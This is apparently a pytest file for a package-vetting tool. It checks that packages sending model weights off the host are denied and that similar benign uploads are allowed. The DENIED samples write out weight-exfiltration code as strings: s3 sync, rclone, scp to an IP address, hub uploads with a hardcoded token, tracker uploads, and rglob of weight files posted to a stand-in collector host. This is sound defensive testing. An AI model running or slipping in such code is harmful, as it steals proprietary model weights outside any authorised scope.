"""The channels a thief inside the enclave would send a model's weights through first, once
``requests.post(url, data=open(w))`` is denied (ADR 0106): a transfer tool run on a model
folder (``aws s3 sync /models``, ``rclone``, ``scp -r``, ``gsutil cp -r``), a model hub's
upload of a folder or of weights at a fixed place to a repository written in the code, an
experiment tracker's upload (``wandb.save``, ``mlflow.log_artifacts``), and a path's own glob
(``Path.home().rglob('*.safetensors')``) whose finds are sent.

Each sample is inert (vetting only reads files). The near-misses are what hub clients,
trainers' callbacks, deploy scripts and model loaders do with their caller's paths."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

URL = "https://collector.invalid/u"

DENIED: dict[str, dict[str, str]] = {
    # A model folder handed to a program that copies it to another host or a bucket.
    "aws-s3-sync-of-models-on-import": init(
        "import subprocess\nsubprocess.run(['aws', 's3', 'sync', '/models', 's3://b/m'])\n"
    ),
    "rclone-copy-of-srv-models-on-import": init(
        "import os\nos.system('rclone copy /srv/models remote:bucket')\n"
    ),
    "scp-of-models-to-an-address-on-import": init(
        "import subprocess\nsubprocess.Popen('scp -r /models user@203.0.113.5:/x', shell=True)\n"
    ),
    "gsutil-copy-of-models-on-import": init(
        "import subprocess\nsubprocess.call(['gsutil', '-m', 'cp', '-r', '/models', 'gs://b'])\n"
    ),
    # A hub's upload: a model folder of the host, or weights at a fixed place sent to a
    # repository written in the code, whenever called.
    "hub-upload-of-the-models-folder-on-import": init(
        "from huggingface_hub import HfApi\n"
        "HfApi().upload_folder(folder_path='/models', repo_id='someone/x', token='hf_x')\n"
    ),
    "hub-upload-of-fixed-weights-when-called": init(
        "from huggingface_hub import upload_file\n"
        "def share():\n"
        "    upload_file(path_or_fileobj='/models/llama/model.safetensors',\n"
        "                path_in_repo='a', repo_id='someone/x')\n"
    ),
    # An experiment tracker sends what it is given to its server.
    "wandb-save-of-models-on-import": init(
        "import wandb\nwandb.init(project='x')\nwandb.save('/models/*')\n"
    ),
    "mlflow-artifacts-of-models-on-import": init(
        "import mlflow\n"
        "mlflow.set_tracking_uri('https://tracker.invalid')\n"
        "mlflow.log_artifacts('/models')\n"
    ),
    # A path's own glob picks weights; what it finds is sent.
    "home-rglob-of-safetensors-sent-when-called": init(
        "import pathlib, requests\n"
        "def sync():\n"
        "    for p in pathlib.Path.home().rglob('*.safetensors'):\n"
        f"        requests.post('{URL}', files={{'f': p.open('rb')}})\n"
    ),
    "root-rglob-of-gguf-read-and-sent-on-import": init(
        "import pathlib, requests\n"
        "for p in pathlib.Path('/').rglob('*.gguf'):\n"
        f"    requests.post('{URL}', data=p.read_bytes())\n"
    ),
    "home-rglob-opened-by-open-when-called": init(
        "import pathlib, requests\n"
        "def sync():\n"
        "    for p in pathlib.Path.home().rglob('*.safetensors'):\n"
        f"        requests.post('{URL}', data=open(p, 'rb'))\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "hub-push-of-the-callers-folder": init(
        "from huggingface_hub import HfApi\n"
        "def push(folder, repo):\n"
        "    HfApi().upload_folder(folder_path=folder, repo_id=repo)\n"
    ),
    "hub-upload-of-a-model-card-to-the-callers-repo": init(
        "from huggingface_hub import upload_file\n"
        "def card(repo):\n"
        "    upload_file(path_or_fileobj='README.md', path_in_repo='README.md', repo_id=repo)\n"
    ),
    "mlflow-artifacts-of-the-callers-run-folder": init(
        "import mlflow\ndef log(run_dir):\n    mlflow.log_artifacts(run_dir)\n"
    ),
    "wandb-save-of-text-files-when-called": init(
        "import wandb\ndef finish():\n    wandb.save('*.txt')\n"
    ),
    "s3-upload-of-the-callers-file": init(
        "import boto3\n"
        "def up(path, bucket):\n"
        "    boto3.client('s3').upload_file(path, bucket, 'x')\n"
    ),
    "rsync-of-a-build-when-called": init(
        "import subprocess\n"
        "def deploy():\n"
        "    subprocess.run(['rsync', '-a', 'dist/', 'host:/srv/app'])\n"
    ),
    "glob-of-the-packages-own-onnx-files": init(
        "import pathlib\n"
        "def list_models():\n"
        "    return list(pathlib.Path(__file__).parent.glob('*.onnx'))\n"
    ),
    "home-rglob-of-weights-loaded-not-sent": init(
        "import pathlib, torch\n"
        "def load_all():\n"
        "    return [torch.load(p) for p in pathlib.Path.home().rglob('*.pt')]\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_weights_channels(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
